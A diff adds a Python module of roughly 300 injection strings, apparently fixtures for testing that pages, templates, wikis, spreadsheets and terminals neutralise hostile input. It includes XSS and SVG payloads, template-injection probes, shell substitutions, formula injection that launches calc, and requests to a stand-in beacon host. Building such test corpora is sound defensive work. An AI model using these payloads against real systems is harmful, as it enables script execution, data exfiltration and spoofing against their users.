@@ -1,0 +1,120 @@
+"""Some 300 texts that are commands somewhere: in a page, an address, a style, a template, a wiki, a table, a terminal."""
+
+# ruff: noqa: E501 - rows of odd texts are easier to read on one line
+from __future__ import annotations
+
+from itertools import product
+
+RAN = "globalThis.ran=1"
+BEACON = "http://beacon.invalid/"
+"""Nothing on a page may ever ask for anything there."""
+
+
+def _html() -> list[str]:
+    tags = ("img src=x onerror", "svg onload", "body onload", "video><source onerror", "details open ontoggle", "input autofocus onfocus",
+            "marquee onstart", "audio src=x onerror", "iframe srcdoc='<script>parent.ran=1</script>' onload", "object data=x onerror",
+            "select autofocus onfocus", "textarea autofocus onfocus", "keygen autofocus onfocus", "x onclick", "a onmouseover",
+            "style onload", "link rel=stylesheet href=x onerror", "math onload", "embed src=x onload", "button autofocus onfocus")  # fmt: skip
+    found = [f"<{tag}={RAN}>" for tag in tags]
+    found += [f"<{tag}='{RAN}' x='" for tag in tags[:10]]
+    found += [f"<script>{RAN}</script>", f"<ScRiPt>{RAN}</sCrIpT>", f"<script src={BEACON}a.js></script>", f"<<script>{RAN}//<</script>",
+              f"<script\x0c>{RAN}</script>", f"<script/x>{RAN}</script>", f"</title><script>{RAN}</script>", f"</script><script>{RAN}</script>",
+              f"</style><script>{RAN}</script>", f"</textarea><script>{RAN}</script>", f"--><script>{RAN}</script>", f"]]><script>{RAN}</script>",
+              f"<!--<script>{RAN}</script>", f"<noscript><p title='</noscript><img src=x onerror={RAN}>'>", f"<plaintext><script>{RAN}",
+              f"<base href={BEACON}>", f"<meta http-equiv=refresh content='0;url={BEACON}m'>", f"<link rel=prefetch href={BEACON}p>",
+              f"<iframe src={BEACON}i></iframe>", f"<form action={BEACON}f><input type=submit></form>", f"<img srcset='{BEACON}s 1x'>",
+              f"<picture><source srcset={BEACON}q><img></picture>", f"<audio autoplay src={BEACON}b></audio>", f"<isindex action={BEACON}>",
+              f"<template><script>{RAN}</script></template>", f"<table background={BEACON}t>", f"<body background={BEACON}y>"]  # fmt: skip
+    found += [
+        f"&lt;script&gt;{RAN}&lt;/script&gt;",
+        f"&#60;script&#62;{RAN}&#60;/script&#62;",
+        f"%3Cscript%3E{RAN}%3C/script%3E",
+        f"\\u003cscript\\u003e{RAN}\\u003c/script\\u003e",
+        f"\uff1cscript\uff1e{RAN}\uff1c/script\uff1e",
+        f"<scr<script>ipt>{RAN}</script>",
+    ]
+    return found
+
+
+def _attributes() -> list[str]:
+    events = (
+        "onmouseover",
+        "onfocus autofocus",
+        "onerror",
+        "style=animation-name:x onanimationstart",
+        "onpointerenter",
+    )
+    return [
+        f"{quote}{gap}{event}={RAN}{gap}x={quote}"
+        for quote, gap, event in product(("'", '"', "`"), (" ", "/", "\t"), events)
+    ]
+
+
+def _schemes() -> list[str]:
+    names = ("javascript:", "JaVaScRiPt:", "java\tscript:", "java\nscript:", "\x01javascript:", " javascript:", "javascript&colon;", "&#106;avascript:",
+             "vbscript:", "livescript:", "view-source:javascript:", "feed:javascript:")  # fmt: skip
+    found = [f"{name}{RAN}" for name in names]
+    found += [
+        f"data:text/html,<script>parent.{RAN}</script>",
+        f"data:image/svg+xml,<svg onload={RAN}>",
+        f"blob:{BEACON}",
+        f"file:///etc/passwd {BEACON}",
+    ]
+    wrapped = [f"[click](javascript:{RAN})", f"![x]({BEACON}md.png)", f"<javascript:{RAN}>", f"[x]: javascript:{RAN}", f"https://a.example/\" onclick={RAN} x=\"",
+               f"https://a.example/'><img src=x onerror={RAN}>", f"http://javascript:{RAN}@a.example/", f"[a](data:text/html;base64,PHNjcmlwdD5wYXJlbnQucmFuPTE8L3NjcmlwdD4=)"]  # fmt: skip
+    return found + wrapped
+
+
+def _styles_and_svg() -> list[str]:
+    return [
+        f"<style>@import '{BEACON}c.css';</style>", f"<div style='background:url({BEACON}u)'>x</div>", f"<p style=\"behavior:url({BEACON}h)\">",
+        f"</style><style>*{{background:url({BEACON}z)}}", f"<style>@font-face{{font-family:x;src:url({BEACON}f)}}*{{font-family:x}}</style>",
+        "<style>body{display:none}</style>", "position:fixed;inset:0", f"expression({RAN})", f"}} * {{ background: url({BEACON}k)", f"url(javascript:{RAN})",
+        f"<svg><script>{RAN}</script></svg>", f"<svg><a xlink:href='javascript:{RAN}'><text>x</text></a></svg>", f"<svg><use href='{BEACON}v#x'/></svg>",
+        f"<svg><image href='{BEACON}w'/></svg>", f"<svg><animate onbegin={RAN} attributeName=x dur=1s>", f"<svg><set onbegin={RAN} attributeName=x>",
+        f"<svg><foreignObject><script>{RAN}</script></foreignObject></svg>", f"<svg><style>*{{background:url({BEACON}g)}}</style></svg>",
+        f"<math><mtext></form><form><mglyph><style></math><img src onerror={RAN}>", f"</svg><script>{RAN}</script>", f"<svg/onload={RAN}//",
+        f"<?xml-stylesheet href='{BEACON}x.xsl'?>", f"<!DOCTYPE x [<!ENTITY e SYSTEM '{BEACON}e'>]>&e;",
+    ]  # fmt: skip
+
+
+def _templates() -> list[str]:
+    return [
+        "{{7*191}}", "{{ config }}", "{% for x in ().__class__.__base__.__subclasses__() %}{{x}}{% endfor %}", "{{''.__class__.__mro__}}", "{# gone #}",
+        "${7*191}", "#{7*191}", "<%= 7*191 %>", "{{{7*191}}}", "{%raw%}", "{% endraw %}{{7*191}}", "{{cycler.__init__.__globals__.os}}", "$(touch owned)",
+        "`touch owned`", "%(x)s", "{0.__class__}", "{x!r}", "%n%n%s%s", "[[${7*191}]]", "{{constructor.constructor('globalThis.ran=1')()}}", "<#assign x=1>",
+    ]  # fmt: skip
+
+
+def _wikis() -> list[str]:
+    media = ["[[File:a.png]]", "[[Category:Owned]]", "{{Delete}}", "{{:Main Page}}", "~~~~", "~~~", "'''bold'''", "== Head ==", "<nowiki>", "</nowiki>{{Delete}}",
+             f"<html><script>{RAN}</script></html>", "<ref>x</ref>", "{|\n|x\n|}", "__NOTOC__", "#REDIRECT [[Owned]]", "<pre>", "<includeonly>", "{{#if:1|x}}",
+             "{{subst:x}}", "[[Special:Logout]]", "* list", "; term", "----", f"[{BEACON} x]", "ISBN 0123456789", "RFC 1149", "<tag name='html'>"]  # fmt: skip
+    doku = ["%%", "%%{{a.png}}", "{{a.png}}", f"{{{{{BEACON}a.png}}}}", "[[start]]", "~~NOCACHE~~", "~~INFO:syntaxplugins~~", "<php>echo 1</php>", "<PHP>x</PHP>",
+            f"<html>{RAN}</html>", "<file>", "</code>", "{{rss>http://beacon.invalid/}}", "====== Head ======", "  * list", "^ a ^ b ^", "((note))", "\\\\ ", "//it//"]  # fmt: skip
+    confluence = ["{html}x{html}", "<ac:structured-macro ac:name=\"html\"/>", "]]></ac:plain-text-body>", "{code}", "h1. Head", "[~admin]", "<ri:user ri:userkey=\"x\"/>",
+                  "!a.png!", "{color:red}", "<ac:link><ri:page ri:content-title=\"Owned\"/></ac:link>"]  # fmt: skip
+    markdown = ["# Head", "> quote", "```\ncode", "---\ntitle: x\n---", "| a | b |\n|---|---|", "![a](a.png)", "[a][b]\n\n[b]: /owned", "<details>", "- [ ] task",
+                "@all", ":tada:", "[[_TOC_]]", "$$x$$", "```mermaid\ngraph TD\n```", "[^1]: note", "&nbsp;", "\\<script>", "***"]  # fmt: skip
+    return media + doku + confluence + markdown
+
+
+def _tables() -> list[str]:
+    starts = ("=", "+", "-", "@", "\t=", "\r=", "\n=", " =", "\uff1d", '"=', "'=", ";=", ",=")
+    bodies = ("1+1", "cmd|' /C calc'!A0", f'HYPERLINK("{BEACON}","x")', f'IMPORTXML("{BEACON}","//a")')
+    return [start + body for start, body in product(starts, bodies)]
+
+
+def _terminals() -> list[str]:
+    escapes = ["\x1b[31mred", "\x1b]0;title\x07", "\x1b[2J", "\x1b]8;;http://beacon.invalid/\x1b\\x", "\x9b31m", "\x07", "\x08\x08\x08", "\r overwritten",
+               "\x1bP+q\x1b\\", "\x1b[6n", "\x00", "\x7f", "\x85next", "\u2028line", "\u2029para", "\x0b", "\x0c"]  # fmt: skip
+    turns = ["\u202egnp.exe", "\u202aabc", "\u202babc", "\u202dabc", "\u2066abc", "\u2067abc", "\u2068abc", "\u2069abc", "\u200eabc", "\u200fabc", "\u061cabc",
+             "\ufeffabc", "a\u200bb", "a\u0301" * 60, "\u0627\u0628 abc \u202c", "\U000e0041\U000e0042", "\ufff9a\ufffab\ufffb"]  # fmt: skip
+    return escapes + turns
+
+
+STRINGS: tuple[str, ...] = tuple(
+    dict.fromkeys(
+        [*_html(), *_attributes(), *_schemes(), *_styles_and_svg(), *_templates(), *_wikis(), *_tables(), *_terminals()]
+    )
+)
